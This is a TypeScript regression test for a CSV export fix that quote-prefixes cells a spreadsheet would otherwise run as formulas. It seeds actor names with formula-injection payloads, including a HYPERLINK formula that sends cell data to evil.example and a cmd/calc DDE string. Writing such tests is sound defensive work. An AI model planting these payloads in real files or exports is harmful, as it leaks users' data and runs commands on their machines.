/** Defect 6: the CSV export wrote cells a spreadsheet runs as formulas (actor names, correlation ids, any text). */
import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import t from 'tap';
import { exportEvents } from '../../src/app/export.js';
import { issueToken, loadFoundingCase, measure, PARA_10, post, serviceFor } from '../http/harness.js';

const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"see")', "+1+cmd|' /C calc'!A0", '@SUM(A1:A9)', '-2+3'];

t.test('no CSV cell starts with a formula character; each such text is kept, behind a quote', async (t) => {
  const service = await serviceFor(t);
  await loadFoundingCase(service);
  const { app } = service;
  for (const name of FORMULAS) {
    const { token } = await issueToken(app, { name, role: 'state', states: ['KAZ'] });
    const recorded = await post(app, `/v1/recommendations/${PARA_10}/measures`, token, measure, {
      'x-correlation-id': '-1.5',
    });
    t.equal(recorded.status, 200, { body: recorded.body });
  }
  const out = new PassThrough();
  let text = '';
  out.setEncoding('utf8');
  out.on('data', (chunk: string) => {
    text += chunk;
  });
  await exportEvents(service.followup.store, out, { format: 'csv' });
  const rows = parse(text, { columns: true }) as Record<string, string>[];
  t.ok(rows.length >= 10, 'every public event exported');
  for (const row of rows) {
    for (const [column, cell] of Object.entries(row)) {
      t.notMatch(
        cell,
        /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/,
        `${column} of ${row.type} @${row.position} is no formula`,
      );
    }
  }
  const actors = rows.filter((row) => row.type === 'MeasureImplemented').map((row) => row.actor);
  t.strictSame(
    actors,
    FORMULAS.map((name) => `'${name}`),
    'the text is kept whole after the quote',
  );
  t.ok(
    rows.filter((row) => row.type === 'MeasureImplemented').every((row) => row.correlationId === "'-1.5"),
    'correlation ids too',
  );
  t.match(text, /,"'=HYPERLINK\(""https:\/\/evil\.example/, 'text cells are wrapped in double quotes, quotes doubled');
});
